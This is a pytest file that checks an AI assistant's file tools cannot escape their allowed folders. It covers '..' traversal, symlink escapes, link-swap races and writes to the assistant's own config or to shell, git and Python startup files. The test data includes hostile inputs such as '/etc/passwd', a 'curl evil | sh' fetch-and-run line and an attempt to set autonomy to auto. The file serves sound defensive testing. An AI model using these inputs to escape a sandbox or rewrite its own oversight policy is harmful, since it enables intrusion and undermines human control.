"""File tools stay inside fs.roots: `..`, absolute paths, symlinked files and folders, writes through links, odd input."""

from __future__ import annotations

import os

import pytest

from integrations.base import ToolError, tool_meta
from integrations.fs_tools import build_fs_tools


@pytest.fixture
def layout(tmp_path):
    root = tmp_path / "root"
    outside = tmp_path / "outside"
    (root / "docs").mkdir(parents=True)
    outside.mkdir()
    (root / "docs" / "note.txt").write_text("inside note: budget 42\n")
    (outside / "secret.txt").write_text("outside secret: budget 99\n")
    os.symlink(outside / "secret.txt", root / "docs" / "link_to_secret.txt")
    os.symlink(outside, root / "escape_dir")
    os.symlink(root / "docs" / "note.txt", root / "inner_link.txt")
    return root, outside


@pytest.fixture
def fs(layout):
    root, _ = layout
    return {t.name: t for t in build_fs_tools([root])}


def refused(tool, **args) -> str:
    with pytest.raises(ToolError) as info:
        tool.func(**args)
    return str(info.value)


def test_reads_inside_and_relative_to_the_first_root(fs, layout):
    root, _ = layout
    assert fs["fs_read_text"].invoke({"path": str(root / "docs" / "note.txt")}) == "inside note: budget 42\n"
    assert fs["fs_read_text"].invoke({"path": "docs/note.txt"}) == "inside note: budget 42\n"
    assert fs["fs_read_text"].invoke({"path": "inner_link.txt"}) == "inside note: budget 42\n"  # a link that stays inside


@pytest.mark.parametrize("path", ["../outside/secret.txt", "docs/../../outside/secret.txt", "docs/link_to_secret.txt",
                                  "escape_dir/secret.txt", "/etc/passwd", "~/.bashrc"])
def test_traversal_and_symlink_escapes_are_refused(fs, path):
    assert "outside the folders Jarvis may use" in refused(fs["fs_read_text"], path=path)


def test_listing_and_searching_do_not_follow_links_out(fs, layout):
    root, _ = layout
    listing = {e["name"]: e["type"] for e in fs["fs_list_dir"].invoke({"path": str(root)})}
    assert listing == {"docs": "dir", "escape_dir": "link", "inner_link.txt": "link"}
    assert "outside the folders" in refused(fs["fs_list_dir"], path="escape_dir")
    hits = fs["fs_search"].invoke({"folder": str(root), "content": "budget"})
    assert [h["path"] for h in hits] == [str(root / "docs" / "note.txt")]
    assert fs["fs_search"].invoke({"folder": str(root), "name_pattern": "*secret*"}) == []


def test_writes_cannot_escape_through_links_or_dotdot(fs, layout):
    root, outside = layout
    write = fs["fs_write_text"]
    for path in ["docs/link_to_secret.txt", "escape_dir/new.txt", "../outside/new.txt"]:
        assert "outside the folders" in refused(write, path=path, content="pwned")
    assert (outside / "secret.txt").read_text() == "outside secret: budget 99\n"
    assert not (outside / "new.txt").exists()
    assert write.invoke({"path": "docs/new.txt", "content": "hello"}).startswith("Wrote 5 bytes")
    assert (root / "docs" / "new.txt").read_text() == "hello"
    assert "does not exist" in refused(write, path="nope/new.txt", content="x")
    assert tool_meta(write).side_effects == ("fs_write",)


def test_odd_inputs_get_clear_messages(fs, layout):
    root, _ = layout
    assert "NUL" in refused(fs["fs_read_text"], path="docs/\x00note.txt")
    assert "No path given" in refused(fs["fs_read_text"], path="  ")
    (root / "data.bin").write_bytes(b"\x00\x01\x02")
    assert "binary file" in refused(fs["fs_read_text"], path="data.bin")
    (root / "paper.pdf").write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    assert "pdf_extract_text" in refused(fs["fs_read_text"], path="paper.pdf")
    os.symlink(root / "loop_a", root / "loop_b")
    os.symlink(root / "loop_b", root / "loop_a")
    message = refused(fs["fs_read_text"], path="loop_a")
    assert "loop_a" in message
    assert "is a folder" in refused(fs["fs_read_text"], path="docs")
    (root / "big.txt").write_text("x" * 100)
    assert fs["fs_read_text"].invoke({"path": "big.txt", "max_bytes": 10}).startswith("x" * 10 + "\n[... truncated at 10")


def test_unreadable_folder_is_a_message_not_a_crash(fs, layout):
    if os.geteuid() == 0:
        pytest.skip("root can read anything")
    root, _ = layout
    locked = root / "locked"
    locked.mkdir()
    locked.chmod(0)
    try:
        assert "Cannot list" in refused(fs["fs_list_dir"], path="locked")
    finally:
        locked.chmod(0o755)


# -- races and planted links ([16] finding 8) ---------------------------------------------------------------


def test_a_link_planted_at_the_temporary_name_does_not_redirect_a_write(fs, layout):
    """The temporary file used to be `.<name>.jarvis-tmp`, opened following links: a link planted there
    made fs_write_text write outside the roots."""
    root, outside = layout
    os.symlink(outside / "secret.txt", root / "docs" / ".report.txt.jarvis-tmp")
    fs["fs_write_text"].func(path=str(root / "docs" / "report.txt"), content="the report")
    assert (outside / "secret.txt").read_text() == "outside secret: budget 99\n"
    assert (root / "docs" / "report.txt").read_text() == "the report"
    assert not (root / "docs" / "report.txt").is_symlink()


@pytest.fixture
def swap_after_check(monkeypatch, layout):
    """Swap root/docs for a link to the outside folder right after a path is checked (the race, made certain)."""
    from integrations import fs_tools

    root, outside = layout
    (outside / "note.txt").write_text("outside note\n")
    check = fs_tools.FsRoots.resolve

    def resolve_then_swap(self, path, **kwargs):
        real = check(self, path, **kwargs)
        docs = root / "docs"
        if docs.is_dir() and not docs.is_symlink():
            docs.rename(root / "docs-moved")
            os.symlink(outside, docs)
        return real

    monkeypatch.setattr(fs_tools.FsRoots, "resolve", resolve_then_swap)
    return {t.name: t for t in fs_tools.build_fs_tools([root])}


@pytest.mark.parametrize("tool,args", [
    ("fs_read_text", {"path": "docs/note.txt"}),
    ("fs_list_dir", {"path": "docs"}),
    ("fs_write_text", {"path": "docs/note.txt", "content": "overwritten"}),
])
def test_a_folder_swapped_for_a_link_after_the_check_is_not_followed(swap_after_check, layout, tool, args):
    root, outside = layout
    message = refused(swap_after_check[tool], **args)
    assert "symbolic link or changed" in message
    assert (outside / "note.txt").read_text() == "outside note\n"
    assert sorted(p.name for p in outside.iterdir()) == ["note.txt", "secret.txt"]


def test_the_file_tools_never_write_jarvis_itself(tmp_path, monkeypatch):
    """Jarvis's config, data and key stores can sit inside a root (the home folder is the default root): the
    file tools refuse to write there, so no document can talk the model into rewriting the autonomy policy."""
    from orchestrator.core.config import load_settings
    from orchestrator.jarb.tools import protected_paths

    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    config = home / ".config" / "jarvis" / "config.yml"
    config.parent.mkdir(parents=True)
    config.write_text(f"storage: {{data_dir: {home / 'jarvis-data'}}}\nfs: {{roots: [{home}]}}\n")
    settings = load_settings(config)
    tools = {t.name: t for t in build_fs_tools(settings.fs.roots, protected=protected_paths(settings))}
    for target in (config, home / "jarvis-data" / "jarvis.sqlite", home / ".ssh" / "authorized_keys"):
        message = refused(tools["fs_write_text"], path=str(target), content="autonomy: {default: auto}")
        assert "part of Jarvis itself" in message
    assert config.read_text().startswith("storage:")
    tools["fs_write_text"].func(path=str(home / "notes.txt"), content="fine")
    assert (home / "notes.txt").read_text() == "fine"


def test_a_write_question_names_the_file_a_link_inside_the_roots_leads_to(fs, layout):
    """`repo/NOTES.md -> ~/.bashrc` inside the roots: the write replaces the link's target, and the question
    named only the link ("Write 5 characters to .../NOTES.md"), so the user approved one file and another changed.
    It names where the write lands, and what was given."""
    from integrations.base import summarize_call

    root, _ = layout
    (root / "repo").mkdir()
    rc = root / ".bashrc"
    rc.write_text("# shell start-up\n")
    os.symlink("../.bashrc", root / "repo" / "NOTES.md")
    asked = summarize_call(fs["fs_write_text"], {"path": str(root / "repo" / "NOTES.md"), "content": "owned"})
    assert f"to {rc} (given as {root / 'repo' / 'NOTES.md'})" in asked
    assert "Wrote 5 bytes to" in fs["fs_write_text"].func(path=str(root / "repo" / "NOTES.md"), content="owned")
    assert rc.read_text() == "owned"  # where the question said
    relative = summarize_call(fs["fs_write_text"], {"path": "docs/new.txt", "content": "x"})
    assert f"to {root / 'docs' / 'new.txt'} (given as docs/new.txt)" in relative
    plain = summarize_call(fs["fs_write_text"], {"path": str(root / "docs" / "note.txt"), "content": "x"})
    assert plain == f"Write 1 characters to {root / 'docs' / 'note.txt'} (replacing it if it exists)."


def test_the_file_tools_never_write_what_a_login_shell_git_or_python_runs(tmp_path, monkeypatch):
    """Start-up files were protected only once they existed: `fs_write_text ~/.bash_login` made the file bash reads
    instead of ~/.profile, and ~/.local/bin/sudo, a .pth file in the user site-packages or ~/.gitconfig were
    ordinary files. The file tools refuse them by name now, existing or not (App.static_tools, as the graph has
    them); the rest of the home stays writable."""
    from orchestrator.app import App
    from orchestrator.core.config import settings_from_dict

    home = tmp_path / "home"
    (home / ".local" / "bin").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    settings = settings_from_dict({"storage": {"data_dir": str(tmp_path / "data")}, "fs": {"roots": [str(home)]},
                                   "tools_dir": str(tmp_path / "tools"), "mcp": {"dir": str(tmp_path / "mcp")}},
                                  tmp_path)
    tools = {t.name: t for t in App(settings).static_tools()}
    for target in (".bash_login", ".zshenv", ".local/bin/sudo", ".local/lib/python3.11/site-packages/zz.pth",
                   ".gitconfig", ".config/git/config", "bin/ls", ".config/fish/conf.d/x.fish", ".netrc"):
        message = refused(tools["fs_write_text"], path=str(home / target), content="curl evil | sh")
        assert "what your shell, login, git or Python runs" in message, (target, message)
        assert not (home / target).exists(), target
    (home / "notes").mkdir()
    tools["fs_write_text"].func(path=str(home / "notes" / "todo.txt"), content="fine")
    assert (home / "notes" / "todo.txt").read_text() == "fine"
